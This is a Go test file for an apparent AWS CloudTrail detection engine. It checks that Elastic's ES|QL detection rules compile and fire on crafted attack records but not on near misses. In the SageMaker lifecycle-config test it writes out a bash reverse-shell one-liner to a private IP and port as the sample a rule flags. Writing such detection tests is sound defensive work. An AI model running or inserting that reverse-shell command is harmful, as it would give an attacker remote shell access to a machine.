package esql

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"sort"
	"testing"

	"github.com/BurntSushi/toml"
	"github.com/trailwatch/trailwatch/cloudtrail/doc"
	"github.com/trailwatch/trailwatch/matcher"
)

// The rule corpus is Elastic's detection rules in ../shared, which the
// project does not carry: these tests read the queries from there and skip
// when it is absent.
const corpusDir = "../../../shared/detection-rules/aws"

type corpusRule struct {
	file, query string
}

// esqlCorpus reads the ES|QL rules of the corpus, by file name.
func esqlCorpus(t *testing.T) map[string]string {
	t.Helper()
	files, _ := filepath.Glob(filepath.Join(corpusDir, "*.toml"))
	if len(files) == 0 {
		t.Skipf("the rule corpus is not at %s (../shared/detection-rules/aws, next to the project): skipped", corpusDir)
	}
	out := map[string]string{}
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		var r struct {
			Rule struct {
				Language string `toml:"language"`
				Query    string `toml:"query"`
			} `toml:"rule"`
		}
		if _, err := toml.Decode(string(b), &r); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		if r.Rule.Language == "esql" {
			out[filepath.Base(f)] = r.Rule.Query
		}
	}
	return out
}

// javaMap renders a JSON object as the pipeline writes request_parameters
// and response_elements: Java's Map.toString() of the HashMap, keys in the
// HashMap's order.
func javaMap(t *testing.T, js string) string {
	t.Helper()
	n, err := doc.ParseJSON([]byte(js))
	if err != nil {
		t.Fatalf("%s: %v", js, err)
	}
	return n.JavaString()
}

// TestCorpusCompiles: every ES|QL rule of the corpus parses and compiles
// against the AWS integration's schema, and the count is the corpus's.
func TestCorpusCompiles(t *testing.T) {
	rules := esqlCorpus(t)
	if len(rules) != 25 {
		t.Errorf("%d ES|QL rules, want 25", len(rules))
	}
	names := make([]string, 0, len(rules))
	for n := range rules {
		names = append(names, n)
	}
	sort.Strings(names)
	agg := 0
	for _, n := range names {
		p, err := Compile(testSchema, rules[n])
		if err != nil {
			t.Errorf("%s: %v", n, err)
			continue
		}
		if p.IsAggregating() {
			agg++
		}
	}
	if agg != 18 {
		t.Errorf("%d aggregating rules, want 18", agg)
	}
}

// TestCorpusRecordRules: for each rule without STATS, a record written for
// it gives a row (an alert), and a near miss gives none; the prefilter
// holds for the record.
func TestCorpusRecordRules(t *testing.T) {
	rules := esqlCorpus(t)
	script := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	cases := []struct {
		file      string
		yes, miss matcher.MapFields
		cols      map[string][]string // columns of the row and their values
	}{
		{
			file: "exfiltration_ecr_repository_policy_granted_public_access.toml",
			yes: rec("event.provider", "ecr.amazonaws.com", "event.action", "SetRepositoryPolicy", "event.outcome", "success",
				"aws.cloudtrail.user_identity.type", "IAMUser",
				"aws.cloudtrail.request_parameters", javaMap(t, `{"repositoryName":"app","policyText":"{\"Statement\":[{\"Effect\": \"Allow\",\"Principal\": \"*\",\"Action\":\"ecr:BatchGetImage\"}]}"}`)),
			miss: rec("event.provider", "ecr.amazonaws.com", "event.action", "SetRepositoryPolicy", "event.outcome", "success",
				"aws.cloudtrail.user_identity.type", "IAMUser",
				"aws.cloudtrail.request_parameters", javaMap(t, `{"repositoryName":"app","policyText":"{\"Statement\":[{\"Effect\": \"Allow\",\"Principal\": {\"AWS\": \"arn:aws:iam::111122223333:root\"}}]}"}`)),
		},
		{
			file: "impact_bedrock_api_key_destructive_action.toml",
			yes: rec("event.provider", "bedrock.amazonaws.com", "event.action", "DeleteGuardrail",
				"aws.cloudtrail.additional_eventdata", "{callWithBearerToken=true}"),
			miss: rec("event.provider", "bedrock.amazonaws.com", "event.action", "DeleteGuardrail",
				"aws.cloudtrail.additional_eventdata", "{callWithBearerToken=false}"),
		},
		{
			file: "impact_s3_object_encryption_with_external_key.toml",
			yes: rec("data_stream.dataset", "aws.cloudtrail", "event.provider", "s3.amazonaws.com", "event.action", "CopyObject",
				"event.outcome", "success", "cloud.account.id", "111111111111",
				"aws.cloudtrail.request_parameters", javaMap(t, `{"bucketName":"dst","x-amz-server-side-encryption-aws-kms-key-id":"arn:aws:kms:us-east-1:999999999999:key/k-123","Host":"dst.s3.amazonaws.com","x-amz-server-side-encryption":"aws:kms","x-amz-copy-source":"dst/report.pdf","key":"report.pdf"}`)),
			miss: rec("data_stream.dataset", "aws.cloudtrail", "event.provider", "s3.amazonaws.com", "event.action", "CopyObject",
				"event.outcome", "success", "cloud.account.id", "999999999999",
				"aws.cloudtrail.request_parameters", javaMap(t, `{"bucketName":"dst","x-amz-server-side-encryption-aws-kms-key-id":"arn:aws:kms:us-east-1:999999999999:key/k-123","Host":"dst.s3.amazonaws.com","x-amz-server-side-encryption":"aws:kms","x-amz-copy-source":"dst/report.pdf","key":"report.pdf"}`)),
			cols: map[string][]string{
				"Esql.aws_cloudtrail_request_parameters_target_bucket_name": {"dst"},
				"Esql.aws_cloudtrail_request_parameters_kms_key_account_id": {"999999999999"},
				"Esql.aws_cloudtrail_request_parameters_kms_key_id":         {"k-123"},
				"Esql.aws_cloudtrail_request_parameters_target_object_key":  {"report.pdf"},
				"cloud.account.id": {"111111111111"},
			},
		},
		{
			file: "impact_s3_static_site_js_file_uploaded.toml",
			yes: rec("data_stream.dataset", "aws.cloudtrail", "event.provider", "s3.amazonaws.com", "event.action", "PutObject",
				"event.outcome", "success", "aws.cloudtrail.user_identity.type", "AssumedRole", "user_agent.original", "aws-cli/2.15",
				"aws.cloudtrail.request_parameters", javaMap(t, `{"bucketName":"site","Host":"site.s3.us-east-1.amazonaws.com","key":"static/js/main.3f2a.js"}`)),
			miss: rec("data_stream.dataset", "aws.cloudtrail", "event.provider", "s3.amazonaws.com", "event.action", "PutObject",
				"event.outcome", "success", "aws.cloudtrail.user_identity.type", "AssumedRole", "user_agent.original", "aws-cli/2.15",
				"aws.cloudtrail.request_parameters", javaMap(t, `{"bucketName":"site","Host":"site.s3.us-east-1.amazonaws.com","key":"static/js/main.3f2a.js.map"}`)),
			cols: map[string][]string{
				"Esql.aws_cloudtrail_request_parameters_bucket_name": {"site"},
				"Esql.aws_cloudtrail_request_parameters_object_key":  {"main.3f2a.js"},
			},
		},
		{
			file: "persistence_iam_user_created_access_keys_for_another_user.toml",
			yes: rec("data_stream.dataset", "aws.cloudtrail", "event.provider", "iam.amazonaws.com", "event.action", "CreateAccessKey",
				"event.outcome", "success", "user.name", "admin", "user.target.name", "svc-deploy"),
			miss: rec("data_stream.dataset", "aws.cloudtrail", "event.provider", "iam.amazonaws.com", "event.action", "CreateAccessKey",
				"event.outcome", "success", "user.name", "admin", "user.target.name", "admin"),
			cols: map[string][]string{"user.target.name": {"svc-deploy"}, "user.name": {"admin"}},
		},
		{
			file: "persistence_sagemaker_lifecycle_config_suspicious_script_content.toml",
			yes: rec("event.provider", "sagemaker.amazonaws.com", "event.action", "CreateNotebookInstanceLifecycleConfig",
				"event.outcome", "success", "aws.cloudtrail.user_identity.type", "IAMUser",
				"aws.cloudtrail.request_parameters", javaMap(t, `{"notebookInstanceLifecycleConfigName":"cfg","onStart":[{"content":"`+script("#!/bin/bash\nBASH -i >& /dev/tcp/10.0.0.1/4443 0>&1\n")+`"}]}`)),
			miss: rec("event.provider", "sagemaker.amazonaws.com", "event.action", "CreateNotebookInstanceLifecycleConfig",
				"event.outcome", "success", "aws.cloudtrail.user_identity.type", "IAMUser",
				"aws.cloudtrail.request_parameters", javaMap(t, `{"notebookInstanceLifecycleConfigName":"cfg","onStart":[{"content":"`+script("#!/bin/bash\npip install pandas\n")+`"}]}`)),
			cols: map[string][]string{"Esql_priv.aws_cloudtrail_lifecycle_script": {"#!/bin/bash\nBASH -i >& /dev/tcp/10.0.0.1/4443 0>&1\n"}},
		},
		{
			file: "privilege_escalation_bedrock_phantom_user_credentials_added.toml",
			yes: rec("event.provider", "iam.amazonaws.com", "event.action", "CreateLoginProfile", "event.outcome", "success",
				"user.target.name", "BedrockAPIKey-x7k2"),
			miss: rec("event.provider", "iam.amazonaws.com", "event.action", "CreateLoginProfile", "event.outcome", "success",
				"user.target.name", "alice"),
		},
	}
	for _, c := range cases {
		t.Run(c.file, func(t *testing.T) {
			q, ok := rules[c.file]
			if !ok {
				t.Fatalf("%s is not in the corpus", c.file)
			}
			p := mustCompile(t, q)
			if p.IsAggregating() {
				t.Fatal("aggregating")
			}
			row, ok := p.Eval(c.yes, testNow)
			if !ok {
				t.Fatalf("no row for %v", c.yes)
			}
			if !p.Prefilter().Match(c.yes) {
				t.Error("the prefilter refuses the record that gives a row")
			}
			for col, want := range c.cols {
				if got := texts(row.Values(col)); !equalStrings(got, want) {
					t.Errorf("%s = %q, want %q", col, got, want)
				}
			}
			if _, ok := p.Eval(c.miss, testNow); ok {
				t.Errorf("a row for the near miss %v", c.miss)
			}
		})
	}
}

func equalStrings(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}
